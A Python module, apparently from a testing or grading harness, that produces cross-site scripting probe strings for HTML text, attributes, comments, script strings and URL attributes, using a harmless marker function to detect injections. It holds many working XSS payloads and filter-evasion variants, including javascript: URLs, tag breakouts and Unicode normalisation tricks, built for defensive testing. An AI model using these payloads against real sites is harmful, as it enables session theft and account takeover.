"""Texts that become markup or code in a page, for every place in which a page may hold them.

The word MARK stands for a marker (`html.new_marker()`); `html.injections` tells whether it became code. The first texts
leave every place at once (text, quotes of both kinds, titles, text areas, scripts); behind them stand those in few
kinds of signs, for filters. See the HTML standard, section 13.2, "Parsing HTML documents".
"""

from __future__ import annotations

import html
from collections.abc import Iterator, Sequence
from urllib.parse import quote

from probes.grammars import evasions
from probes.grammars.placeholders import fields, single
from probes.grammars.ranked import in_turn

_IMAGE = "<img src=x onerror=MARK()>"
#: What is left out of a page at last: by encoders that ignore errors, for XML, by tidying, by whoever keeps to ASCII.
_LEFT_OUT = ("\ud800", "\0\x01\xad\u0301\u200b\ufeff\ufffe")
#: What template engines make of a name that stands in the text of a template: brackets.
_BRACKETS = (
    ("{{ (self|string)[0]|safe }}", "{{ (self|string)[-1]|safe }}"),
    ("${chr(60)}", "${chr(62)}"),  # and of format strings too
)


def _with_left_out(text: str) -> tuple[str, ...]:
    """The text once for each sign of a row, which stands behind each bracket there: all of a row in one text."""
    return tuple("".join(text.replace("<", "<" + sign) for sign in signs) for signs in _LEFT_OUT)


def _by_templates(text: str) -> tuple[str, ...]:
    return tuple(text.replace("<", left).replace(">", right) for left, right in _BRACKETS)


_UPPER = "<IMG SRC=x ONERROR=MARK()>"
_FEW_SIGNS = ("x onfocus=MARK() y", "<<img src=x onerror=MARK()//")
_ANYWHERE = (
    f"'\"></title></textarea></style></script>{_IMAGE}",
    "\" onfocus=MARK() x=\"' onfocus=MARK() x='",
    "<script>MARK()</script>",
    *_with_left_out(f"</title>{_IMAGE}"),
    *_by_templates("</title><MARK>"),
    # Long ones and those of several lines may be put into another element.
    f"{'Long. ' * 60}\"'>{_IMAGE}",
    f"one\ntwo\r\n\n\"'>{_IMAGE}\n",
    '\\" onfocus=MARK() x=\\"',
    *_FEW_SIGNS,
    "<svg/onload=MARK() x",
    "<img src=x\nonerror=MARK()\n>",
    "<IMG SRC=x ONERROR=MARK()>",
    "<img title='>' src=x onerror=MARK()>",
    "\u0338 onfocus=MARK() x",
    "\uff1cimg src=x onerror=MARK()\uff1e\uff02 onfocus=MARK() x=\uff02\uff07 onfocus=MARK() x=\uff07",
    # Signs that tidying turns into quotes and brackets.
    "\u201c onfocus=MARK() x=\u201c\u2019 onfocus=MARK() x=\u2019\u2039img src=x onerror=MARK()\u203a",
    "\ufe64img src=x onerror=MARK()\ufe65\u2033 onfocus=MARK() x=\u2033\u00b4 onfocus=MARK() x=\u00b4",
    f"R&D & {html.escape(_IMAGE)}",
    f"</title >{_IMAGE}</TITLE/>{_UPPER}",
    f"{_UPPER}\" ONFOCUS=MARK() X=\"' ONFOCUS=MARK() X='",
    "x\tonfocus=MARK()\ty",
    "--></title></textarea></style></noscript><MARK>",
    f"&lt;&amp;&quot;&gt;{_IMAGE}",
    "<a href=javascript:MARK()>x</a>",
    "<script MARK>",
    "</li><MARK>",
    f"]]>{_IMAGE}",
    "<details open ontoggle=MARK()>",
    "<iframe srcdoc='<script>MARK()</script>'>",
    "<a href='java&#10;script:MARK()'>x</a>",
    "<form><button formaction=javascript:MARK()>x",
    "'onfocus=MARK() x='",
    '"onfocus=MARK() x="',
    "x\fonfocus=MARK()\fy",
    "<scr<script>ipt>MARK()</scr</script>ipt>",
    "<style onload=MARK()></style>",
    "<math><a xlink:href=javascript:MARK()>",
)


def texts() -> Iterator[str]:
    """Texts that shall be shown as they are, in the text of an element or in an attribute."""
    yield from _ANYWHERE[:3]
    yield from in_turn(
        _ANYWHERE[3:],
        (other for text in (*_ANYWHERE[:3], *_FEW_SIGNS) for other in evasions.evading(text)),
        (form for text in (_IMAGE, *_ANYWHERE[1:2], f"'\">{_IMAGE}") for form in _spelled(text)),
    )


#: What ends a comment, or never lets it begin: also behind what a program makes of hyphens, and without one of its own.
_ENDS_OF_COMMENTS = (
    *(">", "->", "--!>", "-->", "--\n>", "- ->", "\n-->", "--!\n>", "--->", "x-->", "x--!>", "- - >", "---!>", "-\0->", "-\u200b->", "&#45;&#45;>"),
    *("--&gt;", "-&#45;>", "\u2014>", "\u2010\u2010>", "-->-->", "--!>--!>", "<!-->", "<!--->", "]>", "?>", "]]>", "%>", "*/", "</script>"),
)


def in_comments() -> Iterator[str]:
    """Texts that leave a comment, a declaration or an instruction, wherever they stand in it."""
    for form in ("{}<img src=x onerror=MARK()>", "{}<MARK>", "x {}<svg onload=MARK()>", "{}<script>MARK()//"):
        yield from (form.format(end) for end in _ENDS_OF_COMMENTS)


#: Signs that are markup, or take in what is in front of them, once a finished page is written in another normal form:
#: a stroke makes one sign of itself and the bracket that ends a tag, so that the tag goes on.
_MELTED = (
    "\u0338 onfocus=MARK() x=",
    "\uff1cimg src=x onerror=MARK()\uff1e",
    "\uff02 onfocus=MARK() x=\uff02 \uff07 onfocus=MARK() x=\uff07",
    "\u0338 onfocus=MARK() \u226e",
    "\ufe64img src=x onerror=MARK()\ufe65",
    "\u0338\u0338 onfocus=MARK() x=",
    "\u0338onfocus onfocus=MARK() x",
    "\u2039img src=x onerror=MARK()\u203a",
    "\u3008img src=x onerror=MARK()\u3009",
    "\u02ba onfocus=MARK() x=\u02ba \u2019 onfocus=MARK() x=\u2019 \u201d onfocus=MARK() x=\u201d",
    "\u0327\u0338 onfocus=MARK() x=",
)


def melted() -> Iterator[str]:
    """Texts without a bracket or a quote of ASCII, for who normalises, folds or transcribes what is escaped already."""
    yield from _MELTED


def refilled() -> Iterator[str]:
    """Texts that hold fields of the solution's own templates: what is filled in there was made for another place."""
    own = list(single())[:12]
    if own:
        yield f"{_ANYWHERE[1]}{_IMAGE} {' '.join(own)}"
    yield from (f"{_ANYWHERE[1]}{_IMAGE} {field}" for field in own)


def _spelled(text: str) -> Iterator[str]:
    """What a later step turns into the text."""
    yield from (html.escape(text), quote(text), html.escape(html.escape(text)), quote(quote(text)))
    yield text.replace("<", "\\u003c").replace(">", "\\u003e").replace('"', "\\u0022")
    yield text.replace("<", "\\x3c").replace(">", "\\x3e").replace('"', "\\x22")
    yield text.replace("<", "<\0").replace("onerror", "on\0error")
    yield text.replace("<", "&#60").replace(">", "&#62")
    yield text.replace("<", "+ADw-").replace(">", "+AD4-")
    yield "&lt;" + text.replace("<", "<!>")


_CODE_URLS = (
    "javascript:MARK()",
    "JaVaScRiPt:MARK()",
    " \x01javascript:MARK()",
    "java\tscript:MARK()",
    "\x1fjava\nscript:MARK()//",
    "javascript:MARK()//https://ada.example/",
    "javascript://https://ada.example/%0aMARK()",
    "\njavascript:MARK()//\nhttps://ada.example/",
    "https://ada.example/\njavascript:MARK()",
    "data:text/html,<script>MARK()</script>//https://ada.example/",
    "javascript:MARK()?https://ada.example/",
    "javascript%3AMARK()",
    "javascript&colon;MARK()",
    "vbscript:MARK()",
    "javascript&#58;MARK()",
    "http:javascript:MARK()",
    "javascript:http://MARK()",
    "javascript:'http://';MARK()",
    "java\0script:MARK()",
    "feed:javascript:MARK()",
    "%6aavascript:MARK()",
    "\u2028javascript:MARK()",
    "\ufeffjavascript:MARK()",
    "data:image/svg+xml,<svg onload=MARK() xmlns='http://www.w3.org/2000/svg'/>",
    "x-javascript:MARK()",
)


#: `urlsplit`, and who looks for a scheme and two slashes, take these for one of a website; they do not begin as one does.
_SPLIT_AS_ONE = (
    *("http:REST//", "http:x//REST", "https:/x//REST", "ht\ttp://REST", "http:?//REST", "https:\n//REST", "http\r\n://REST"),
    *("https:#//REST", "HTTP:/REST//", "http:\\\\REST//x", "http:\t//REST", "http:&//REST"),
)
_NO_WEBSITES = (
    *("ftp://REST", "//REST", "mailto:ada@REST", "file:///REST", "data:text/plain,REST", "REST", "/REST"),
    *("httpx://REST", "http", "tel:1", "shttp://REST", "https+x://REST", "view-source:https://REST"),
    *("blob:https://REST", "x:https://REST", "ftp://REST#https://REST", "ws://REST", "./https://REST"),
    *("?https://REST", "ftp:REST\nhttps://REST", "\nftp://REST", '"https://REST', "<https://REST>", "(https://REST"),
    *("//REST/https://", "\\\\REST", "http//REST", "intent://REST", "hxxp://REST", "\u017fttp://REST"),
    "\uff48ttps://REST",
)


def no_websites(address: str) -> Iterator[str]:
    """Texts that are no http or https address, in no form of code either; they begin like `address` or hold it."""
    rest = address.partition("://")[2]
    yield from (form.replace("REST", rest) for form in in_turn(_NO_WEBSITES, _SPLIT_AS_ONE))


_IN_ATTRIBUTES = (
    *(" onfocus=MARK() x", "'onfocus=MARK() x='", '"onfocus=MARK() x="', "x\fonfocus=MARK()\fy", "'><MARK>", "<MARK"),
)


def urls(address: str) -> Iterator[str]:
    """Texts for the place of an address in an attribute; `address` is one that is allowed."""
    yield from _CODE_URLS[:3]
    yield from in_turn(
        _CODE_URLS[3:],
        (f"{address}{text}" for text in (*_ANYWHERE[:3], _FEW_SIGNS[0], *_IN_ATTRIBUTES)),
        (other for text in _CODE_URLS[:2] for other in evasions.evading(text)),
        (f"{address}{form}" for form in _spelled('"><img src=x onerror=MARK()>')),
    )


_SCRIPTS = (
    f"</script>{_IMAGE}",
    "\";MARK();//';MARK();//`;MARK();//",
    "\\\";MARK();//\\';MARK();//\\`;MARK();//",
    f"</SCRIPT >{_IMAGE}",
    f"</SCRIPT>{_UPPER}",
    *_with_left_out(f"</script>{_IMAGE}"),
    *_by_templates("</script><MARK>"),
    "</Script\f><Svg/Onload=MARK()>",
    f"\u00e9\u2019</SCRIPT >{_UPPER}",
    f"</script></SCRIPT></script ></SCRIPT ><img src=x>{_IMAGE}{_UPPER}",
    "\nMARK()\n",
    '"+MARK()+"',
    "'+MARK()+'",
    '\\"+MARK()}//',
    f"</script/x>{_IMAGE}",
    f"</script\n>{_IMAGE}",
    f"</script\t{_IMAGE}</script>",
    f"</ScRiPt>{_IMAGE}",
    "${MARK()}",
    "\u0130" * 60 + f"</script>{_IMAGE}",
    "\u00df\ufb03\u0149" * 40 + f"</script>{_IMAGE}",
    f"<!--<script>x</script></script>{_IMAGE}",
    '\\\\";MARK();//',
    '\\\\\\";MARK();//',
    "MARK\\",
    "\u2028MARK()//",
    "\rMARK()//",
    "*/MARK()/*",
    "1;MARK()",
    "&quot;;MARK();//",
    f"&lt;/script&gt;{html.escape(_IMAGE)}",
    "\\u003c/script\\u003e\\u003cimg src=x onerror=MARK()\\u003e",
    f"</scr</script>ipt>{_IMAGE}",
    f"</</script>script>{_IMAGE}",
    f"<<//script>{_IMAGE}",
    "\uff1c/script\uff1e\uff1cimg src=x onerror=MARK()\uff1e",
    "%3C/script%3E%3Cimg src=x onerror=MARK()%3E",
    f"</\u017fcript>{_IMAGE}",
    f"-->{_IMAGE}",
    f"]]></script>{_IMAGE}",
)


#: All that ends the name of an end tag, and its letters beside elements in the same ones.
_ENDS = (">", " >", "\t>", "\n>", "\f>", "\r>", "/>", " x>", "/x='>'>")
_NAMES = ("script", "SCRIPT", "sCRIPT")
_ELEMENTS = ("<svg/onload=MARK()>", _UPPER, "<SVG/ONLOAD=MARK()>")


def scripts() -> Iterator[str]:
    """Texts that stand in a string of a script, or in JSON within one."""
    yield from _SCRIPTS[:4]
    yield from in_turn(
        _SCRIPTS[4:],
        (other for text in _SCRIPTS[:3] for other in evasions.evading(text)),
        (f"</{name}{end}{element}" for end in _ENDS for name, element in zip(_NAMES, _ELEMENTS, strict=True)),
    )


_PAIRS = (
    ("<img src=x title='", "' onerror=MARK()>"),
    ('<img src=x title="', '" onerror=MARK() x="'),
    ("\\", '+MARK()+"'),
    ("\\", ";MARK();//"),
    ("<!--<script>", f"</script>{_IMAGE}"),
    ("<!--", f"--!>{_IMAGE}"),
    ("<img src=x onerror=`", "`;MARK()>"),
    ("</scr", f"ipt>{_IMAGE}"),
    ("<", "img src=x onerror=MARK()>"),
    ('x="', ' onfocus=MARK() "'),
)
#: What another text may bring along when it is filled in where a field of its name stands.
_BROUGHT = ('" onfocus=MARK() x="', f"' onfocus=MARK() x='{_IMAGE}", "+MARK()+")
#: A backslash is no sign of markup, and ends no string of a script when it is doubled.
_BEHIND_A_BACKSLASH = ('";MARK();//', '"}]};MARK()//', '"+MARK()+"', "';MARK();//")


def pairs(names: Sequence[str]) -> Iterator[tuple[str, str]]:
    """Two texts of one page, the first of which opens what the second steps out of.

    Templates of the solution's own are filled twice by the fields of its source; `names` are fields to be guessed.
    """
    own = list(single())
    yield from in_turn(
        _PAIRS,
        _of_fields(own),
        (("\\", field + behind) for behind in _BEHIND_A_BACKSLASH for field in own),
        _of_fields(list(fields(*names))),
    )


def _of_fields(found: Sequence[str]) -> Iterator[tuple[str, str]]:
    for payload in _BROUGHT:
        for field in found:
            yield (field, payload)
            yield (payload, field)
